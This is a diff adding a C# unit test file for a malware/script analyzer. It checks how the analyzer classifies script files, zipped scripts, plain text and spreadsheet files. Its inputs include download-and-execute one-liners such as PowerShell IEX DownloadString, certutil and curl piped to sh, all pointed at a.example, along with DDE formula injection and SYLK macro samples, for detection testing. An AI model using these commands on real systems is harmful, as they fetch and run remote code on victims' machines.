@@ -1,0 +1,80 @@
+using Analyzer.Core;
+using Analyzer.Engines.Tests.Making;
+
+namespace Analyzer.Engines.Tests.Kinds;
+
+/// <summary>Scripts that come as files: by themselves, where no name tells the language, and in an archive.</summary>
+public sealed class ScriptFileTests
+{
+    [Theory]
+    [InlineData("var s = new ActiveXObject('WScript.Shell'); s.Run('calc');", "a.js")]
+    [InlineData("(function(){ var a = WScript.CreateObject(\"Shell.Application\"); a.ShellExecute('cmd.exe'); })();", "a.jse")]
+    [InlineData("On Error Resume Next\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\", 0", "a.vbs")]
+    [InlineData("Dim x\r\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", \"http://a.example/\", "
+        + "False\r\nCreateObject(\"WScript.Shell\").Run y", "b.vbs")]
+    [InlineData("$c = New-Object Net.WebClient\r\n$c.DownloadFile('http://a.example/x', 'x')\r\nStart-Process x", "a.ps1")]
+    [InlineData("IEX(New-Object Net.WebClient).DownloadString('http://a.example/')", "b.ps1")]
+    [InlineData("@echo off\r\npowershell -w hidden -enc SQBFAFgA", "a.bat")]
+    [InlineData("@echo off\r\ncertutil -urlcache -f http://a.example/x x.exe\r\nstart x.exe", "a.cmd")]
+    [InlineData("#!/bin/sh\ncurl http://a.example/x | sh -s\n", "a.sh")]
+    [InlineData("#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "a.py")]
+    [InlineData("#@~^XAAAAA==encoded", "a.vbe")]
+    public void Complete_ScriptThatActs_IsSuspiciousByItselfAndInside(string script, string name)
+    {
+        var alone = Judged.Of(script);
+        var inside = Judged.Of(ZipMaker.Pack((name, script)));
+
+        alone.Verdict.ShouldBeOneOf([Verdict.Suspicious, Verdict.Malicious], Judged.Text(alone));
+        inside.Verdict.ShouldBeOneOf([Verdict.Suspicious, Verdict.Malicious], Judged.Text(inside));
+    }
+
+    [Theory]
+    [InlineData("function add(a, b) { return a + b; }\nvar c = add(1, 2);\n", "text/javascript")]
+    [InlineData("Sub Main()\r\nDim x\r\nx = 1\r\nEnd Sub", "text/vbscript")]
+    [InlineData("@echo off\r\ndir\r\n", "application/x-bat")]
+    [InlineData("#!/bin/bash\necho hello\n", "text/x-shellscript")]
+    [InlineData("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\A]\r\n\"a\"=\"b\"\r\n", "text/x-ms-regedit")]
+    public void Complete_OtherScript_IsDescribedAndNeverClean(string script, string mediaType)
+    {
+        var report = Judged.Of(script);
+
+        (report.Verdict, report.MediaType).ShouldBe((Verdict.Unable, mediaType), Judged.Text(report));
+        report.Rules().ShouldContain("script.language");
+    }
+
+    [Theory]
+    [InlineData("A letter about PowerShell: write Invoke-WebRequest and Start-Process, or IEX(New-Object Net.WebClient).DownloadString.\n")]
+    [InlineData("name,amount\r\nA,1\r\nB,2\r\n")]
+    [InlineData("{\"a\": 1}")]
+    [InlineData("From here on we go.\nTo be or not to be.\n")]
+    [InlineData("Only one line")]
+    [InlineData("# How to\n\n```js\n'use strict';\nrequire('child_process').exec('ls');\n```\n")]
+    [InlineData("map x =cmd | pipe\n")]
+    public void Complete_PlainText_IsClean(string text)
+    {
+        var report = Judged.Of(text);
+
+        (report.Verdict, report.MediaType).ShouldBe((Verdict.Clean, "text/plain"), Judged.Text(report));
+    }
+
+    [Theory]
+    [InlineData("name\r\n=cmd|' /C calc'!A0\r\n", "text.dde-formula")]
+    [InlineData("a;b\n@SUM(1+1)*cmd|' /C calc'!A0\n", "text.dde-formula")]
+    [InlineData("ID;PWXL;N;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;K0;EEXEC(\"calc\")\r\nE\r\n", "text.sheet-macro")]
+    [InlineData("WEB\r\n1\r\nhttp://a.example/\r\n", "text.web-query")]
+    public void Complete_TableThatActs_IsSuspicious(string text, string rule)
+    {
+        var report = Judged.Of(text);
+
+        report.Rules().ShouldContain(rule);
+        report.Verdict.ShouldBe(Verdict.Suspicious);
+    }
+
+    [Fact]
+    public void Complete_BinaryBehindAText_IsNoText()
+    {
+        var report = Judged.Of([.. Samples.Bytes(new string('a', 10_000)), 1, 2, 3]);
+
+        (report.Verdict, report.MediaType).ShouldBe((Verdict.Unable, "application/octet-stream"));
+    }
+}
